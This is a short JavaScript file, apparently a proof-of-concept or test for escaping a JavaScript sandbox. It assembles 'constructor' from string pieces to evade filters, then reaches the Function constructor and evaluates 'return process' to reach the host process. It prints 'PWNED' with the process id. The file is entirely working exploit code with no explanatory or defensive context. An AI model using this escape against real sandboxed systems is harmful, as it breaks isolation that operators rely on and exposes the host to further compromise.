'use strict';
const w = ['con', 'structor'].join('');
class C { go(f) { return f[w]; } }
const t = new C();
t.go({});
const fn = (x) => x;
Promise.race([t]).then((x) => { const o = Date.now() > 1 ? x : {}; console.log('PWNED', o.go(fn)('return process')().pid); });
